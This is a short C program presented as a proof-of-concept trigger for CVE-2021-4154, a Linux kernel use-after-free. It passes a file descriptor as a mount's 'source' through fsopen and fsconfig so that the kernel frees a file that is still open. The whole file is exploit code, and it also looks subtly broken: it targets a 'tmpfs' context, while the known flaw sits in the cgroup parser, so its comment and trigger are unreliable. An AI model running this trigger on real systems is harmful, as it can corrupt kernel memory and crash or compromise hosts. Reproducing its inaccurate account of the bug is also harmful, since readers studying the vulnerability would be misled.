/*
 * CVE-2021-4154: the source of a mount is given as a file descriptor. The kernel takes the open
 * file for a string, and frees it along with the mount's other settings, while it is still open.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

/* enum fsconfig_command in include/uapi/linux/mount.h, which glibc may lack */
#define SET_FD 5

int main(void)
{
	int file = open("/", O_RDONLY);
	int context = syscall(SYS_fsopen, "tmpfs", 0);

	if (file < 0 || context < 0) {
		perror("open or fsopen");
		return 1;
	}
	/* A fixed kernel refuses with EINVAL. */
	syscall(SYS_fsconfig, context, SET_FD, "source", NULL, file);
	close(context);
	close(file);
	return 0;
}
